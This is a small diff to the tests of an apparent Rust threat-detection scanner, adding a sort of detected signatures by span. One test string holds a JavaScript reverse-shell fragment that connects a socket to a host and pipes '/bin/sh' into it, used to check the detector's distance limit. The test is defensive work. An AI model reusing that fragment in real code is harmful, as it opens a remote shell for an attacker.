@@ -172,6 +172,7 @@ mod tests {
         let says = |check: &str, text: &str| -> Vec<&str> {
             let mut signs = Vec::new();
             search(text, &mut signs, Span::from_offsets);
+            signs.sort_by_key(|sign| sign.span);
             threats(check, &signs).iter().map(|(threat, _)| threat.says).collect()
         };
         for Threat { check, says: words, hit, miss, .. } in THREATS.threats {
@@ -185,6 +186,7 @@ mod tests {
         let text = format!("const socket = net.connect(1, host);{}spawn('/bin/sh').stdout.pipe(socket);", " ".repeat(5000));
         let mut signs = Vec::new();
         search(&text, &mut signs, Span::from_offsets);
+        signs.sort_by_key(|sign| sign.span);
         assert!(threats("reverse-shell", &signs).is_empty());
     }
 
